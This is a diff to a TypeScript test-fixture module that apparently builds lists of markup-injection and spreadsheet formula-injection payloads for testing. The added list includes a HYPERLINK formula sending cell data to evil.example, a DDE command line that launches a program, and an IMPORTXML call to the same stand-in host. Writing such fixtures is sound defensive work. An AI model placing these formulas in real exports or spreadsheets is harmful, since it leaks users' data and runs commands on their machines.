@@ -113,3 +113,32 @@ const templates = [
 export const markupPayloads: readonly string[] = [
   ...new Set([...elements, ...handlers, ...attributes, ...addresses, ...templates]),
 ]
+
+/** The same as names are taken: in one line, without control characters, not too long. */
+export const markupNames: readonly string[] = [
+  ...new Set(
+    markupPayloads.map((one) =>
+      one
+        .replaceAll(/\p{Cc}/gu, ' ')
+        .trim()
+        .slice(0, 100),
+    ),
+  ),
+]
+
+/** What a spreadsheet would reckon with, wherever it lets a cell begin. */
+export const formulaPayloads: readonly string[] = [
+  '=1+1',
+  '+1+1',
+  '-2+3',
+  '@SUM(1)',
+  '\t=1+1',
+  '=HYPERLINK("https://evil.example/?"&A1,"Open")',
+  '=cmd|"/c calc"!A1',
+  '=IMPORTXML("https://evil.example","//a")',
+  'x;=1+1',
+  'x\n=1+1',
+  '"=1+1"',
+  '＝1+1',
+  "'=1+1",
+]
